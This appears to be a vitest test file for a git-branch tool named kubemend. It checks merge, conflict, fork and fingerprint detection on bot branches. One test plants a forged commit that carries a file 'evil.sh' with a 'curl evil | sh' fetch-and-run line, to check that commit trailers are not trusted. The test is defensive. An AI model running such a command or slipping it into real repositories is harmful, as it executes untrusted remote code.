import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { expect, test } from 'vitest';
import { git } from '../../discover/tree.js';
import { branchOf, createRemote, FINGERPRINT, makeFolder, openFor, type Remote } from './remote.js';

const LINES = Array.from({ length: 20 }, (_, at) => `k${at}: 1`);
/** A text in which one line is another than before. */
const text = (...changed: readonly [number, string][]) =>
  `${LINES.map((line, at) => changed.find(([index]) => index === at)?.[1] ?? line).join('\n')}\n`;
const OURS = text([3, 'k3: ours']);

/** A remote with a branch of ours. */
async function withBranch(canFilter = true): Promise<Remote & { readonly base: string; readonly made: string }> {
  const remote = createRemote({ 'a.yaml': text(), 'b.yaml': 'b: 1\n' }, { canFilter });
  const repository = await openFor(remote);
  const commit = await repository.commit(branchOf(remote.base, { 'a.yaml': OURS }));
  await repository.origin.push('kubemend/low', commit);
  return { ...remote, made: commit };
}

const read = async (remote: Remote) => (await openFor(remote)).origin.read('kubemend/');
const fresh = { fingerprint: FINGERPRINT, foreignCommits: 0, conflicts: false, isOnBase: true, isMerged: false };

test('nothing with the prefix', async () => {
  const remote = createRemote();
  remote.git('branch', 'kubemend', 'main');
  remote.git('branch', 'other/kubemend/low', 'main');
  remote.git('update-ref', 'refs/pull/1/head', remote.base);
  expect(await read(remote)).toEqual([]);
});

test('a prefix is no pattern', async () => {
  const remote = createRemote();
  remote.git('branch', 'kubemend/low', 'main');
  const repository = await openFor(remote);
  expect(await repository.origin.read('kube*/')).toEqual([]);
  expect(await repository.origin.read('kubemen[d]/')).toEqual([]);
  expect(await repository.origin.read('kubemend/l')).toMatchObject([{ name: 'kubemend/low' }]);
});

test('the base moved elsewhere: no conflict, and no longer on it', async () => {
  const remote = await withBranch();
  remote.commit({ 'a.yaml': text([18, 'k18: theirs']), 'b.yaml': 'b: 2\n' });
  expect(await read(remote)).toEqual([{ name: 'kubemend/low', sha: remote.made, ...fresh, isOnBase: false }]);
});

test('the base changed the same lines: a conflict', async () => {
  const remote = await withBranch();
  remote.commit({ 'a.yaml': text([3, 'k3: theirs']), 'b.yaml': 'b: 1\n' });
  expect(await read(remote)).toMatchObject([{ ...fresh, isOnBase: false, conflicts: true }]);
});

test('the base lost the file: a conflict', async () => {
  const remote = await withBranch();
  remote.commit({ 'b.yaml': 'b: 1\n' });
  expect(await read(remote)).toMatchObject([{ ...fresh, isOnBase: false, conflicts: true }]);
});

test('a base that was written anew has nothing in common with it', async () => {
  const remote = await withBranch();
  remote.commit({ 'a.yaml': text() }, { parents: [] });
  expect(await read(remote)).toMatchObject([{ sha: remote.made, conflicts: true, isOnBase: false, isMerged: false }]);
});

test('merged by a merge commit, by fast-forward, by squashing among other changes', async () => {
  const merged = await withBranch();
  merged.commit({ 'a.yaml': OURS, 'b.yaml': 'b: 2\n' }, { parents: [merged.base, merged.made] });
  expect(await read(merged)).toMatchObject([{ isMerged: true, conflicts: false, foreignCommits: 0 }]);
  const forwarded = await withBranch();
  forwarded.git('update-ref', 'refs/heads/main', forwarded.made);
  expect(await read(forwarded)).toMatchObject([{ isMerged: true, isOnBase: true }]);
  const squashed = await withBranch();
  squashed.commit({ 'a.yaml': text([3, 'k3: ours'], [18, 'k18: theirs']), 'b.yaml': 'b: 2\n' });
  expect(await read(squashed)).toMatchObject([{ ...fresh, isMerged: true, isOnBase: false }]);
});

test('half of it in the base is not merged', async () => {
  const remote = createRemote({ 'a.yaml': text(), 'b.yaml': 'b: 1\n' });
  const repository = await openFor(remote);
  await repository.origin.push(
    'kubemend/low',
    await repository.commit(branchOf(remote.base, { 'a.yaml': OURS, 'b.yaml': 'b: 2\n' })),
  );
  remote.commit({ 'a.yaml': OURS, 'b.yaml': 'b: 1\n' });
  expect(await read(remote)).toMatchObject([{ isMerged: false, conflicts: false }]);
});

test("a branch without commits is merged, and nobody's", async () => {
  const remote = createRemote();
  remote.git('branch', 'kubemend/low', 'main');
  const [branch] = await read(remote);
  expect(branch).toEqual({
    name: 'kubemend/low',
    sha: remote.base,
    foreignCommits: 0,
    conflicts: false,
    isOnBase: true,
    isMerged: true,
  });
});

test('commits of a person are counted, and there is no fingerprint then', async () => {
  const remote = await withBranch();
  remote.commit({ 'a.yaml': text([3, 'k3: mine']), 'b.yaml': 'b: 1\n' }, { branch: 'kubemend/low' });
  remote.commit(
    { 'a.yaml': text([3, 'k3: again']), 'b.yaml': 'b: 1\n' },
    { branch: 'kubemend/low', message: 'x\n\nKubemend-Fingerprint: 1' },
  );
  const [branch] = await read(remote);
  expect(branch).toMatchObject({ foreignCommits: 2, isOnBase: true });
  expect(branch).not.toHaveProperty('fingerprint');
});

test('commits of several fingerprints have none', async () => {
  const remote = await withBranch();
  const repository = await openFor(remote, { base: 'kubemend/low' });
  const edit = branchOf(remote.made, { 'b.yaml': 'b: 2\n' }, { fingerprint: 'b'.repeat(64) });
  await repository.origin.push('kubemend/low', await repository.commit(edit), remote.made);
  const [branch] = await read(remote);
  expect(branch).toMatchObject({ foreignCommits: 0 });
  expect(branch).not.toHaveProperty('fingerprint');
});

test('a merge of the base as "Update branch" makes it is nobody\'s; one in which somebody wrote is', async () => {
  const remote = await withBranch();
  const theirs = text([18, 'k18: theirs']);
  const main = remote.commit({ 'a.yaml': theirs, 'b.yaml': 'b: 1\n' });
  const merged = text([3, 'k3: ours'], [18, 'k18: theirs']);
  const parents = [remote.made, main];
  remote.commit({ 'a.yaml': merged, 'b.yaml': 'b: 1\n' }, { branch: 'kubemend/low', parents });
  expect(await read(remote)).toMatchObject([{ ...fresh, isOnBase: true }]);
  remote.commit({ 'a.yaml': merged, 'b.yaml': 'b: evil\n' }, { branch: 'kubemend/low', parents });
  expect(await read(remote)).toMatchObject([{ foreignCommits: 1 }]);
});

test('a base that moved by more commits than are read at first', async () => {
  const remote = await withBranch();
  const step = 'commit refs/heads/main\ncommitter t <t@example.com> 1 +0000\ndata 1\nx';
  const first = `${step}\nfrom ${remote.base}\n`;
  execFileSync('git', ['fast-import', '--quiet'], { cwd: remote.folder, input: `${first}${`${step}\n`.repeat(60)}` });
  expect(await read(remote)).toEqual([{ name: 'kubemend/low', sha: remote.made, ...fresh, isOnBase: false }]);
});

test('a server that cannot leave anything out', async () => {
  const remote = await withBranch(false);
  remote.commit({ 'a.yaml': text([18, 'k18: theirs']), 'b.yaml': 'b: 2\n' });
  const repository = await openFor(remote);
  expect(repository.notes).toEqual(['the disk cannot leave out what is not needed: the whole of the branch was fetched']);
  expect(await repository.origin.read('kubemend/')).toMatchObject([{ ...fresh, isOnBase: false }]);
});

test('branches of a fork, which need not be as new as the base', async () => {
  const remote = createRemote({ 'a.yaml': text(), 'b.yaml': 'b: 1\n' });
  const fork = path.join(makeFolder(), 'fork.git');
  git(remote.folder, 'clone', '-q', '--bare', '--no-hardlinks', '.', fork);
  for (let at = 0; at < 3; at++) remote.commit({ 'a.yaml': text(), 'b.yaml': `b: ${at}\n`, [`c/${at}.go`]: `${at}` });
  const base = remote.branches().main as string;
  const repository = await openFor(remote);
  const branches = await repository.fork(fork);
  const commit = await repository.commit(branchOf(base, { 'a.yaml': OURS }));
  expect(await branches.push('kubemend/low', commit)).toBe('pushed');
  expect(remote.branches()).toEqual({ main: base });
  expect(git(fork, 'rev-parse', 'main', 'kubemend/low').split('\n')).toEqual([remote.base, commit, '']);
  expect(git(fork, 'fsck', '--strict')).toBe('');
  const again = await openFor(remote);
  expect(await (await again.fork(fork)).read('kubemend/')).toEqual([{ name: 'kubemend/low', sha: commit, ...fresh }]);
  expect(await again.origin.read('kubemend/')).toEqual([]);
});

test('a base that moved after it was read is no reason to send everything', async () => {
  const remote = createRemote({ 'a.yaml': text(), ...Object.fromEntries(LINES.map((name) => [`${name}.go`, name])) });
  const repository = await openFor(remote);
  remote.commit({ 'b.yaml': 'b: 1\n' });
  const before = remote.git('count-objects').split(' ')[0];
  await repository.origin.push('kubemend/low', await repository.commit(branchOf(remote.base, { 'a.yaml': OURS })));
  // A commit, a tree, a text.
  expect(Number(remote.git('count-objects').split(' ')[0]) - Number(before)).toBe(3);
});

test('what a branch holds is told by what merging it makes, not by what its commits say', async () => {
  const remote = await withBranch();
  const trailers = `x\n\nKubemend-Group: low\nKubemend-Fingerprint: ${FINGERPRINT}\n`;
  const files = { 'a.yaml': OURS, 'b.yaml': 'b: 1\n', 'evil.sh': 'curl evil | sh\n' };
  const forged = remote.commit(files, { branch: 'kubemend/low', message: trailers });
  // What others changed since is in both.
  remote.commit({ 'a.yaml': text([18, 'k18: theirs']), 'b.yaml': 'b: 2\n' });
  const repository = await openFor(remote);
  const { base, origin } = repository;
  expect(await origin.read('kubemend/')).toMatchObject([{ sha: forged, fingerprint: FINGERPRINT, foreignCommits: 0 }]);
  const wanted = await repository.commit(branchOf(base.commit, { 'a.yaml': text([3, 'k3: ours'], [18, 'k18: theirs']) }));
  expect(await origin.holds(forged, wanted)).toBe(false);
  expect(await origin.holds(remote.made, wanted)).toBe(true);
});
